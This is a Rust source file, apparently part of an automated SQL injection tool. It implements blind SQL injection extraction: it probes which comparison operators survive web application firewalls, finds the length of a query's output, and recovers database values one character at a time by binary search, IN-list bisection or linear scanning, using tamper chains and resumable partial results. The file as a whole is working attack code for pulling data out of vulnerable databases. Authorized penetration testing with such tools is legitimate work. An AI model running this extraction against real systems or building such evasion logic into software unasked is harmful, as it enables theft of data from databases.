use futures::future::join_all;
use sha2::{Digest, Sha256};

use crate::core::config::ScanConfig;
use crate::core::error::{EngineError, Result};
use crate::http::{Requester, Target};
use crate::oracle::ProbeOracle;
use crate::payloads::{char_ord_templates, fill, length_templates, Dbms, Slot, Vector};
use crate::session::{SessionStore, StorageRecord};
use crate::tamper::{chain_from_config, TamperContext, TamperStage};

/// Upper bound accepted for a discovered output length.
pub const MAX_OUTPUT_LENGTH: usize = 1 << 24;

const MIN_ORD: u32 = 32;
const MAX_ORD: u32 = 127;
const DIGIT_MIN: u32 = 48;
const DIGIT_MAX: u32 = 57;

/// Characters tried first by the linear strategy, most frequent first; the
/// full printable range is the fallback.
const LINEAR_ALPHABET: &str =
    " ._-@1234567890abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";

/// Comparison shapes usable against the oracle, strongest first. WAFs
/// commonly filter `>`; the weaker shapes survive more often.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SearchStrategy {
    BinaryGt,
    RangeExclusion,
    SetMembership,
    LinearEq,
}

impl SearchStrategy {
    pub const PRIORITY: [SearchStrategy; 4] = [
        SearchStrategy::BinaryGt,
        SearchStrategy::RangeExclusion,
        SearchStrategy::SetMembership,
        SearchStrategy::LinearEq,
    ];

    pub fn from_name(name: &str) -> Option<Self> {
        match name.to_lowercase().as_str() {
            "binary" => Some(SearchStrategy::BinaryGt),
            "between" => Some(SearchStrategy::RangeExclusion),
            "in" => Some(SearchStrategy::SetMembership),
            "equal" => Some(SearchStrategy::LinearEq),
            _ => None,
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            SearchStrategy::BinaryGt => "binary (>)",
            SearchStrategy::RangeExclusion => "NOT BETWEEN 0 AND",
            SearchStrategy::SetMembership => "IN (...)",
            SearchStrategy::LinearEq => "linear (=)",
        }
    }

    /// Constant-true / constant-false probes of this comparison shape.
    fn probe_pair(&self) -> (&'static str, &'static str) {
        match self {
            SearchStrategy::BinaryGt => ("6590>6420", "6590>6591"),
            SearchStrategy::RangeExclusion => {
                ("6590 NOT BETWEEN 0 AND 6420", "6590 NOT BETWEEN 0 AND 9999")
            }
            SearchStrategy::SetMembership => ("(SELECT 45) IN (10,45,60)", "(SELECT 45) IN (10,60)"),
            SearchStrategy::LinearEq => ("09845=9845", "09845=9846"),
        }
    }
}

/// A finished (or resumed) extraction.
#[derive(Debug, Clone)]
pub struct Extraction {
    pub value: String,
    pub strategy: Option<SearchStrategy>,
    pub resumed: bool,
    pub requests: u64,
}

/// Exfiltrates scalar expressions character-by-character through a confirmed
/// vector: operator probe, length discovery, per-position search, persisted
/// partials for resume.
pub struct Extractor<'a> {
    requester: &'a Requester,
    store: &'a dyn SessionStore,
    config: &'a ScanConfig,
    target: &'a Target,
    vector: Vector,
    oracle: ProbeOracle,
    dbms: Dbms,
    randnum: u32,
}

impl<'a> Extractor<'a> {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        requester: &'a Requester,
        store: &'a dyn SessionStore,
        config: &'a ScanConfig,
        target: &'a Target,
        vector: Vector,
        oracle: ProbeOracle,
        dbms: Dbms,
        randnum: u32,
    ) -> Self {
        Self { requester, store, config, target, vector, oracle, dbms, randnum }
    }

    /// Stable storage key: the caller's label when given, otherwise derived
    /// from (endpoint, parameter, expression).
    pub fn storage_key(&self, expression: &str, label: Option<&str>) -> String {
        match label {
            Some(l) => l.to_string(),
            None => {
                let digest = Sha256::digest(
                    format!(
                        "{}|{}|{}",
                        self.target.endpoint_path(),
                        self.target.parameter.key,
                        expression
                    )
                    .as_bytes(),
                );
                format!("q:{:02x}{:02x}{:02x}{:02x}{:02x}{:02x}{:02x}{:02x}",
                    digest[0], digest[1], digest[2], digest[3],
                    digest[4], digest[5], digest[6], digest[7])
            }
        }
    }

    /// Recover `eval(expression)` as a string.
    pub async fn extract(&self, expression: &str, label: Option<&str>) -> Result<Extraction> {
        let key = self.storage_key(expression, label);
        let started_at = self.requester.metrics().snapshot().requests;

        // resume
        let mut partial = String::new();
        let mut known_length: Option<usize> = None;
        if !self.config.fresh_queries {
            if let Some(record) = self.store.storage_get(&key).await? {
                if record.is_complete() {
                    tracing::info!("resumed: {}", record.value);
                    return Ok(Extraction {
                        value: record.value,
                        strategy: None,
                        resumed: true,
                        requests: 0,
                    });
                }
                if !record.value.is_empty() {
                    partial = record.value;
                    known_length = Some(record.length as usize);
                }
            }
        }

        if self.oracle.is_time_based() && self.config.threads > 1 {
            tracing::warn!("time-based extraction active, parallel probing disabled");
        }

        let strategy = self.choose_strategy().await?;
        tracing::debug!("extracting with strategy {}", strategy.label());

        let length = match known_length {
            Some(l) => l,
            None => self.discover_length(expression).await?,
        };
        if length == 0 || length > MAX_OUTPUT_LENGTH {
            return Err(EngineError::OracleAmbiguous(format!(
                "output length {} out of accepted bounds",
                length
            )));
        }

        let mut value = partial;
        let start = value.chars().count() + 1;
        for position in start..=length {
            let mut recovered: Option<char> = None;
            for attempt in 0..self.config.retry.max(1) {
                if let Some(c) = self.char_at(expression, position, strategy, attempt as usize).await? {
                    recovered = Some(c);
                    break;
                }
                tracing::warn!("failed to extract character at position {}, retrying", position);
            }
            let Some(c) = recovered else {
                return Err(EngineError::ExtractionIncomplete {
                    got: value.chars().count(),
                    expected: length,
                    value,
                });
            };
            value.push(c);
            tracing::info!("retrieved: {}", value);
            self.store
                .storage_upsert(&StorageRecord {
                    key: key.clone(),
                    value: value.clone(),
                    length: length as i64,
                })
                .await?;
        }

        Ok(Extraction {
            value,
            strategy: Some(strategy),
            resumed: false,
            requests: self.requester.metrics().snapshot().requests - started_at,
        })
    }

    /// Render an inference condition through the vector and tamper chains,
    /// send it, and reduce the response to a truth value.
    async fn probe(&self, condition: &str) -> Result<bool> {
        let sleeptime = self.config.timesec as u64;
        let rendered = self.vector.render(condition, sleeptime, self.randnum);
        let names = self.config.tamper_names();
        let ctx = TamperContext { dbms: Some(self.dbms), technique: Some(self.vector.kind) };
        let staged = chain_from_config(names.as_deref(), TamperStage::Extraction, Some(self.vector.kind))?
            .apply(&rendered, &ctx);
        let wired = chain_from_config(names.as_deref(), TamperStage::Injection, Some(self.vector.kind))?
            .apply(&staged.payload, &ctx);
        let response = self.requester.send(self.target, Some(&wired.payload)).await?;
        Ok(self.oracle.truth(&response))
    }

    /// True/false agreement check for one comparison shape.
    async fn strategy_works(&self, strategy: SearchStrategy) -> Result<bool> {
        let (truthy, falsy) = strategy.probe_pair();
        if !self.probe(truthy).await? {
            return Ok(false);
        }
        Ok(!self.probe(falsy).await?)
    }

    /// Step 2: pick the comparison shape. A forced strategy skips probing
    /// entirely; otherwise the four candidates are tested (in parallel when
    /// allowed) and the highest-priority survivor wins.
    async fn choose_strategy(&self) -> Result<SearchStrategy> {
        if let Some(name) = &self.config.fetch_using {
            let forced = SearchStrategy::from_name(name)
                .ok_or_else(|| EngineError::Config(format!("unknown fetch_using '{}'", name)))?;
            tracing::debug!("strategy {} forced, operator probe skipped", forced.label());
            return Ok(forced);
        }

        let parallel = self.config.threads > 1 && !self.oracle.is_time_based();
        if parallel {
            let probes = SearchStrategy::PRIORITY.map(|s| self.strategy_works(s));
            let outcomes = join_all(probes).await;
            for (strategy, outcome) in SearchStrategy::PRIORITY.iter().zip(outcomes) {
                if outcome? {
                    return self.accept_strategy(*strategy);
                }
            }
        } else {
            for strategy in SearchStrategy::PRIORITY {
                if self.strategy_works(strategy).await? {
                    return self.accept_strategy(strategy);
                }
            }
        }
        Err(EngineError::ExtractionImpossible)
    }

    fn accept_strategy(&self, strategy: SearchStrategy) -> Result<SearchStrategy> {
        if strategy != SearchStrategy::BinaryGt {
            tracing::info!("switching to {} for better WAF compatibility", strategy.label());
        }
        Ok(strategy)
    }

    /// Step 3: discover the output length. Fast path probes `len == k` for
    /// small k; otherwise the digit count of the length is probed and each
    /// decimal digit extracted by ordinal binary search over [48, 57].
    async fn discover_length(&self, expression: &str) -> Result<usize> {
        for template in length_templates(self.dbms) {
            let len_expr = fill(template.expr, &[(Slot::Query, expression)])?;

            for k in 1..=10usize {
                if self.probe(&format!("{}={}", len_expr, k)).await? {
                    return Ok(k);
                }
            }

            // digit count of the length itself
            let digit_count_expr = fill(template.expr, &[(Slot::Query, &len_expr)])?;
            let mut digit_count = 0usize;
            for d in 2..=8usize {
                if self.probe(&format!("{}={}", digit_count_expr, d)).await? {
                    digit_count = d;
                    break;
                }
            }
            if digit_count == 0 {
                continue;
            }

            let mut digits = String::new();
            'positions: for position in 1..=digit_count {
                let pos = position.to_string();
                for ord_template in char_ord_templates(self.dbms) {
                    let ord_expr = fill(
                        ord_template.expr,
                        &[(Slot::Query, len_expr.as_str()), (Slot::Position, pos.as_str())],
                    )?;
                    if let Some(ordinal) =
                        self.ordinal_search(&ord_expr, DIGIT_MIN, DIGIT_MAX, false).await?
                    {
                        digits.push(char::from_u32(ordinal).expect("digit ordinal"));
                        continue 'positions;
                    }
                }
                break;
            }
            if digits.len() == digit_count {
                if let Ok(length) = digits.parse::<usize>() {
                    return Ok(length);
                }
            }
        }
        Err(EngineError::OracleAmbiguous("could not determine output length".into()))
    }

    /// Step 4: one character. `attempt` rotates through catalog variants on
    /// retries.
    async fn char_at(
        &self,
        expression: &str,
        position: usize,
        strategy: SearchStrategy,
        attempt: usize,
    ) -> Result<Option<char>> {
        let templates = char_ord_templates(self.dbms);
        let template = &templates[attempt.min(templates.len() - 1)];
        let pos = position.to_string();
        let ord_expr = fill(
            template.expr,
            &[(Slot::Query, expression), (Slot::Position, pos.as_str())],
        )?;

        let ordinal = match strategy {
            SearchStrategy::BinaryGt => self.ordinal_search(&ord_expr, MIN_ORD, MAX_ORD, false).await?,
            SearchStrategy::RangeExclusion => {
                self.ordinal_search(&ord_expr, MIN_ORD, MAX_ORD, true).await?
            }
            SearchStrategy::SetMembership => self.ordinal_bisect(&ord_expr).await?,
            SearchStrategy::LinearEq => self.ordinal_linear(&ord_expr).await?,
        };
        Ok(ordinal.and_then(char::from_u32))
    }

    /// Binary search over ordinals with a monotone `>` (or NOT BETWEEN)
    /// oracle. At exit `lo` is the smallest ordinal the oracle rejected,
    /// which is the sought value; outside [min_ord, max_ord] means the
    /// position is empty or unprintable.
    async fn ordinal_search(
        &self,
        ord_expr: &str,
        min_ord: u32,
        max_ord: u32,
        range_exclusion: bool,
    ) -> Result<Option<u32>> {
        let mut lo = min_ord - 1;
        let mut hi = max_ord;
        while lo <= hi {
            let mid = (lo + hi) / 2;
            let condition = if range_exclusion {
                format!("{} NOT BETWEEN 0 AND {}", ord_expr, mid)
            } else {
                format!("{}>{}", ord_expr, mid)
            };
            if self.probe(&condition).await? {
                lo = mid + 1;
            } else {
                if mid == 0 {
                    break;
                }
                hi = mid - 1;
            }
        }
        if lo < min_ord || lo > max_ord {
            return Ok(None);
        }
        Ok(Some(lo))
    }

    /// Set-membership bisection: halve the candidate list with `IN (...)`
    /// probes, then validate the survivor with one equality probe.
    async fn ordinal_bisect(&self, ord_expr: &str) -> Result<Option<u32>> {
        let mut candidates: Vec<u32> = (MIN_ORD..=MAX_ORD).collect();
        while candidates.len() > 1 {
            let half = candidates.len() / 2;
            let chunk = &candidates[..half];
            let list = chunk.iter().map(|c| c.to_string()).collect::<Vec<_>>().join(",");
            let condition = format!("{} IN ({})", ord_expr, list);
            if self.probe(&condition).await? {
                candidates.truncate(half);
            } else {
                candidates.drain(..half);
            }
        }
        let survivor = candidates[0];
        if self.probe(&format!("{}={}", ord_expr, survivor)).await? {
            Ok(Some(survivor))
        } else {
            Ok(None)
        }
    }

    /// Linear scan: heuristic alphabet first, then the rest of the printable
    /// range.
    async fn ordinal_linear(&self, ord_expr: &str) -> Result<Option<u32>> {
        for c in LINEAR_ALPHABET.chars() {
            if self.probe(&format!("{}={}", ord_expr, c as u32)).await? {
                return Ok(Some(c as u32));
            }
        }
        for ordinal in MIN_ORD..=MAX_ORD {
            if LINEAR_ALPHABET.contains(char::from_u32(ordinal).expect("printable ordinal")) {
                continue;
            }
            if self.probe(&format!("{}={}", ord_expr, ordinal)).await? {
                return Ok(Some(ordinal));
            }
        }
        Ok(None)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strategy_names_parse() {
        assert_eq!(SearchStrategy::from_name("binary"), Some(SearchStrategy::BinaryGt));
        assert_eq!(SearchStrategy::from_name("BETWEEN"), Some(SearchStrategy::RangeExclusion));
        assert_eq!(SearchStrategy::from_name("in"), Some(SearchStrategy::SetMembership));
        assert_eq!(SearchStrategy::from_name("equal"), Some(SearchStrategy::LinearEq));
        assert_eq!(SearchStrategy::from_name("bogus"), None);
    }

    #[test]
    fn probe_pairs_match_strategy_shape() {
        let (t, f) = SearchStrategy::RangeExclusion.probe_pair();
        assert!(t.contains("NOT BETWEEN") && f.contains("NOT BETWEEN"));
        let (t, _) = SearchStrategy::SetMembership.probe_pair();
        assert!(t.contains(" IN "));
    }
}
